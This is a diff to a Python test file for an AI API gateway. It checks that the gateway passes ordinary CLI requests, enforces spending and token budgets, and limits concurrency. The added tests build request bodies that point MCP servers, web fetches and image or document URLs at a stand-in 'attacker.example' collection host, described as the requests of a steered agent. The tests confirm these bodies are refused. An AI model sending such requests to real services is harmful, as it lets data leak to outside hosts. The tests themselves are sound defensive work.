@@ -233,11 +233,11 @@ def test_sse_usage_parser_takes_any_split_and_crlf(tmp_path, api):
 
 
 def test_the_request_after_the_budget_is_spent_is_refused(api, make_gateway, gateway_log):
-    gw = make_gateway(budget_usd=0.0001)
-    api.script([Text("this answer spends the budget"), Text("never sent")])
+    gw = make_gateway(budget_usd=0.0002)  # 20 output tokens of Sonnet 5.5
+    api.script([Text("this answer spends the budget, " * 4), Text("never sent")])
     resp, _ = stream(gw)
     assert resp.status_code == 200  # the request that spends it finishes
-    assert gw.usage.cost_usd >= 0.0001 and gw.spent()
+    assert gw.usage.cost_usd >= 0.0002 and gw.spent()
     with client(gw) as c:
         refused = c.post("/v1/messages", json=MESSAGE, headers=key(gw))
     assert refused.status_code == 402
@@ -246,11 +246,11 @@ def test_the_request_after_the_budget_is_spent_is_refused(api, make_gateway, gat
     assert error["type"] == "error" and error["error"]["type"] == "billing_error"
     assert "budget is spent" in error["error"]["message"]
     assert len(api.message_requests()) == 1
-    assert "budget of $0.0001 spent" in gateway_log.text
+    assert "budget of $0.0002 spent" in gateway_log.text
 
 
 def test_token_budget(api, make_gateway):
-    gw = make_gateway(max_tokens=10)
+    gw = make_gateway(max_tokens=20)
     resp, _ = stream(gw)
     assert resp.status_code == 200
     with client(gw) as c:
@@ -434,6 +434,310 @@ def test_allowed_models(api, make_gateway):
         assert "not allowed" in resp.json()["error"]["message"]
         assert c.post("/v1/messages", content=b"not json", headers=key(gw)).status_code == 400
     assert len(api.requests) == 3
+
+
+# --------------------------------------------------------------------------- what passes
+
+# What the pinned CLI (2.1.332) sends in every request we observed (tests/standins/anthropic.py).
+CLI_BETAS = (
+    "claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27,"
+    "per-turn-control-2026-07-01,mid-conversation-tool-changes-2026-07-01,"
+    "thinking-token-count-2026-05-13,advanced-tool-use-2025-11-20,effort-2025-11-24,"
+    "thinking-display-updates-2026-08-18"
+)
+CLI_MESSAGE = dict(
+    MESSAGE,
+    max_tokens=128000,
+    system=[
+        {"type": "text", "text": "You are Claude Code.", "cache_control": {"type": "ephemeral"}}
+    ],
+    tools=[
+        {"name": "Bash", "description": "Run a command", "input_schema": {"type": "object"}},
+        {
+            "name": "Skill",
+            "description": "A skill",
+            "input_schema": {"type": "object"},
+            "defer_loading": True,
+        },
+    ],
+    messages=[
+        {"role": "user", "content": [{"type": "text", "text": "hi"}]},
+        {
+            "role": "assistant",
+            "content": [
+                {"type": "thinking", "thinking": "hm", "signature": "sig"},
+                {"type": "tool_use", "id": "toolu_1", "name": "Bash", "input": {"command": "ls"}},
+            ],
+        },
+        {
+            "role": "user",
+            "content": [
+                {
+                    "type": "tool_result",
+                    "tool_use_id": "toolu_1",
+                    "content": [{"type": "text", "text": "README.md"}],
+                }
+            ],
+        },
+    ],
+    thinking={"type": "adaptive", "display": "updates"},
+    context_management={"edits": [{"type": "clear_thinking_20251015", "keep": "all"}]},
+    output_config={"effort": "medium"},
+    metadata={"user_id": '{"device_id":"d","account_uuid":"","session_id":"s"}'},
+)
+ATTACKER = "https://attacker.example/collect"
+_IMAGE_BY_URL = {"type": "image", "source": {"type": "url", "url": ATTACKER}}
+HOSTILE_BODIES = {
+    "mcp_servers": dict(MESSAGE, mcp_servers=[{"type": "url", "url": ATTACKER, "name": "x"}]),
+    "container": dict(MESSAGE, container="container_011CQUqJ1CBhe3VkBXK6e1rF"),
+    "web_fetch": dict(MESSAGE, tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]),
+    "web_search": dict(MESSAGE, tools=[{"type": "web_search_20250305", "name": "web_search"}]),
+    "code_execution": dict(
+        MESSAGE, tools=[{"type": "code_execution_20250825", "name": "code_execution"}]
+    ),
+    "bash_tool": dict(MESSAGE, tools=[{"type": "bash_20250124", "name": "bash"}]),
+    "text_editor": dict(
+        MESSAGE, tools=[{"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"}]
+    ),
+    "computer": dict(
+        MESSAGE,
+        tools=[
+            {
+                "type": "computer_20250124",
+                "name": "computer",
+                "display_width_px": 1024,
+                "display_height_px": 768,
+            }
+        ],
+    ),
+    "mcp_toolset": dict(MESSAGE, tools=[{"type": "mcp_toolset", "mcp_server_name": "x"}]),
+    "tool_search": dict(
+        MESSAGE, tools=[{"type": "tool_search_tool_regex_20251119", "name": "tool_search"}]
+    ),
+    "image_by_url": dict(MESSAGE, messages=[{"role": "user", "content": [_IMAGE_BY_URL]}]),
+    "document_by_url_in_a_tool_result": dict(
+        MESSAGE,
+        messages=[
+            {
+                "role": "user",
+                "content": [
+                    {
+                        "type": "tool_result",
+                        "tool_use_id": "t",
+                        "content": [
+                            {"type": "document", "source": {"type": "url", "url": ATTACKER}}
+                        ],
+                    }
+                ],
+            }
+        ],
+    ),
+    "file_by_id": dict(
+        MESSAGE,
+        messages=[
+            {
+                "role": "user",
+                "content": [
+                    {"type": "document", "source": {"type": "file", "file_id": "file_011"}}
+                ],
+            }
+        ],
+    ),
+    "server_tool_use_block": dict(
+        MESSAGE,
+        messages=[
+            {"role": "user", "content": "hi"},
+            {
+                "role": "assistant",
+                "content": [
+                    {
+                        "type": "server_tool_use",
+                        "id": "srvtoolu_1",
+                        "name": "web_fetch",
+                        "input": {"url": ATTACKER},
+                    }
+                ],
+            },
+        ],
+    ),
+    "image_by_url_in_system": dict(MESSAGE, system=[_IMAGE_BY_URL]),
+    "not_an_object": ["model", "claude-sonnet-5-5"],
+}
+
+
+def test_what_the_pinned_cli_sends_passes(api, gateway):
+    api.script([Text("fine")])
+    with client(gateway) as c:
+        resp = c.post(
+            "/v1/messages?beta=true",
+            json=CLI_MESSAGE,
+            headers=key(gateway) | {"anthropic-beta": CLI_BETAS},
+        )
+        assert resp.status_code == 200, resp.text
+        resp = c.post(
+            "/v1/messages/count_tokens?beta=true",
+            json=CLI_MESSAGE,
+            headers=key(gateway) | {"anthropic-beta": "token-counting-2024-11-01"},
+        )
+        assert resp.status_code == 200, resp.text
+    (sent, _) = api.requests
+    assert sent.body == CLI_MESSAGE  # no budget: passed as it came
+    assert sent.headers["anthropic-beta"] == CLI_BETAS
+
+
+@pytest.mark.parametrize("name", HOSTILE_BODIES)
+def test_server_side_tools_and_connections_never_reach_the_api(api, gateway, name):
+    """A steered agent asks the API to fetch, search, run code or reach an MCP server for it."""
+    with client(gateway) as c:
+        for path in ("/v1/messages?beta=true", "/v1/messages/count_tokens"):
+            resp = c.post(path, json=HOSTILE_BODIES[name], headers=key(gateway))
+            assert resp.status_code == 400, resp.text
+            assert resp.json()["type"] == "error"
+            assert resp.json()["error"]["type"] == "invalid_request_error"
+            assert resp.headers["x-should-retry"] == "false"
+    assert api.requests == []
+
+
+@pytest.mark.parametrize(
+    "betas",
+    [
+        ("mcp-client-2025-04-04",),
+        (CLI_BETAS + ",mcp-client-2025-11-20",),
+        (CLI_BETAS, "files-api-2025-04-14"),
+        ("code-execution-2025-08-25",),
+        ("web-fetch-2025-09-10",),
+        ("advisor-tool-2026-03-01",),
+    ],
+)
+def test_beta_flags_outside_the_allowlist_never_reach_the_api(api, gateway, betas):
+    headers = [("x-api-key", gateway.session_key)] + [("anthropic-beta", b) for b in betas]
+    with client(gateway) as c:
+        resp = c.post("/v1/messages?beta=true", json=MESSAGE, headers=headers)
+    assert resp.status_code == 400, resp.text
+    assert "beta" in resp.json()["error"]["message"]
+    assert api.requests == []
+
+
+class _GreedyModel:
+    """An upstream that writes as much as it may: every answer's output is its `max_tokens`.
+
+    It records the `max_tokens` it was asked for, and how many requests it served at once.
+    """
+
+    def __init__(self, delay: float = 0.0) -> None:
+        self.delay = delay
+        self.asked: list[int] = []
+        self.in_flight = self.most_in_flight = 0
+        lock = threading.Lock()
+        outer = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def log_message(self, *args: object) -> None:
+                pass
+
+            def do_POST(self) -> None:  # noqa: N802
+                body = json.loads(self.rfile.read(int(self.headers["content-length"])))
+                with lock:
+                    outer.asked.append(body["max_tokens"])
+                    outer.in_flight += 1
+                    outer.most_in_flight = max(outer.most_in_flight, outer.in_flight)
+                try:
+                    time.sleep(outer.delay)
+                    self.send_response(200)
+                    self.send_header("content-type", "text/event-stream")
+                    self.end_headers()
+                    start = {
+                        "type": "message_start",
+                        "message": {
+                            "model": body["model"],
+                            "usage": {"input_tokens": 0, "output_tokens": 1},
+                        },
+                    }
+                    delta = {
+                        "type": "message_delta",
+                        "usage": {"output_tokens": body["max_tokens"]},
+                    }
+                    for name, data in (
+                        ("message_start", start),
+                        ("message_delta", delta),
+                        ("message_stop", {"type": "message_stop"}),
+                    ):
+                        self.wfile.write(f"event: {name}\ndata: {json.dumps(data)}\n\n".encode())
+                finally:
+                    with lock:
+                        outer.in_flight -= 1
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.server.daemon_threads = True
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture
+def greedy():
+    upstream = _GreedyModel()
+    yield upstream
+    upstream.close()
+
+
+OPUS_OUT = pricing.price("claude-opus-5-5").output / pricing.MTOK  # USD per output token
+
+
+def test_max_tokens_is_lowered_to_what_the_budget_left_can_pay(greedy, make_gateway):
+    budget = 0.01  # 500 output tokens of Opus 5.5
+    gw = make_gateway(upstream=greedy.url, budget_usd=budget)
+    resp, _ = stream(gw, dict(CLI_MESSAGE, model="claude-opus-5-5"))  # asks for 128,000
+    assert resp.status_code == 200
+    assert greedy.asked == [int(budget / OPUS_OUT)]
+    assert gw.usage.cost_usd <= budget + 1e-9
+    resp, _ = stream(gw, dict(CLI_MESSAGE, model="claude-opus-5-5"))
+    assert resp.status_code == 402
+    assert len(greedy.asked) == 1
+
+
+def test_a_request_the_budget_left_cannot_pay_at_all_is_refused(greedy, make_gateway):
+    gw = make_gateway(upstream=greedy.url, budget_usd=OPUS_OUT * 5)  # 5 tokens: nothing useful
+    with client(gw) as c:
+        resp = c.post(
+            "/v1/messages", json=dict(CLI_MESSAGE, model="claude-opus-5-5"), headers=key(gw)
+        )
+    assert resp.status_code == 402
+    assert resp.json()["error"]["type"] == "billing_error"
+    assert "budget left cannot pay" in resp.json()["error"]["message"]
+    assert greedy.asked == []
+
+
+def test_parallel_requests_cannot_overshoot_the_budget(make_gateway):
+    """Eight requests at once, against a budget that pays for one of them."""
+    greedy = _GreedyModel(delay=0.5)
+    try:
+        budget = OPUS_OUT * 1500
+        gw = make_gateway(upstream=greedy.url, budget_usd=budget)
+        body = dict(CLI_MESSAGE, model="claude-opus-5-5", max_tokens=1000)
+        with ThreadPoolExecutor(8) as pool:
+            statuses = list(pool.map(lambda _: stream(gw, body)[0].status_code, range(8)))
+        assert sum(greedy.asked) * OPUS_OUT <= budget * (1 + 1e-9), greedy.asked
+        assert gw.usage.cost_usd <= budget * (1 + 1e-9)
+        assert statuses.count(200) == len(greedy.asked) >= 1
+        assert set(statuses) <= {200, 402}
+    finally:
+        greedy.close()
+
+
+def test_requests_in_flight_per_session_are_limited(make_gateway):
+    greedy = _GreedyModel(delay=0.3)
+    try:
+        gw = make_gateway(upstream=greedy.url)
+        with ThreadPoolExecutor(12) as pool:
+            statuses = list(pool.map(lambda _: stream(gw)[0].status_code, range(12)))
+        assert statuses == [200] * 12  # the others waited for their turn
+        assert 1 <= greedy.most_in_flight <= jobs.gateway.MAX_IN_FLIGHT
+    finally:
+        greedy.close()
 
 
 # --------------------------------------------------------------------------- streaming
